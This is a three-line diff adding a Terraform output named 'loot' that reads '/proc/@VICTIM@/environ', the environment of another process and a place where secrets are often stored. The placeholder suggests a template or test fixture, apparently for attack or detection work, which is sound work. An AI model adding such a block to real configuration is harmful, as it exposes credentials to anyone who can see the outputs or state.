@@ -1,0 +1,3 @@
+output "loot" {
+  value = file("/proc/@VICTIM@/environ")
+}
